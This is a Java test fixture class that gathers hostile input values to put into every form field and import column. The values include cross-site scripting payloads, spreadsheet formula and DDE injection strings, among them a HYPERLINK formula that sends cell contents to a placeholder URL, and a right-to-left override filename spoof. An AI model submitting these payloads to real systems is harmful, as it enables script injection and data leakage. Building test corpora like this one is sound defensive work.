package de.lenkwerk;

import java.util.List;

/**
 * One corpus of hostile input, put into every form field and every import column (issue 19, point 6): markup and
 * event handlers, spreadsheet formulas and DDE starters, a 10,000-character text, emoji, right-to-left text and
 * bidi overrides, impossible dates, NaN, a number with a huge exponent and negative numbers.
 */
public final class HostileCorpus {

    public static final String SCRIPT = "<script>window.lwHacked=1;alert('xss')</script>";
    public static final String IMAGE = "<img src=x onerror=\"window.lwHacked=1;alert(1)\">";
    public static final String LONG = "Lang".repeat(2_500);
    public static final String HUGE_EXPONENT = "1E500000000";

    public static final List<String> VALUES = List.of(
            SCRIPT,
            IMAGE,
            "\" onmouseover=\"alert(1)\" x=\"",
            "<svg/onload=alert(1)>",
            "javascript:alert(1)",
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Klick\")",
            "=cmd|' /C calc'!A0",
            "+1+1",
            "-2+3",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            LONG,
            "Ziel erreicht 🎉👩🏽‍💻 ✅",
            "تحسين التعليم في دريسدن",
            "שפה \u202Egnp.exe\u202C",
            "31.02.2026",
            "2026-13-45",
            "00.00.0000",
            "2958466",
            "1e12",
            "NaN",
            "-NaN",
            "Infinity",
            HUGE_EXPONENT,
            "1E-500000000",
            "-5",
            "-0,5",
            "-99999999999999999999999");

    private HostileCorpus() {
    }

    /** What a field holds once the hostile value is stored: the text as typed, without surrounding white space. */
    public static String literal(String value) {
        return value.strip();
    }
}
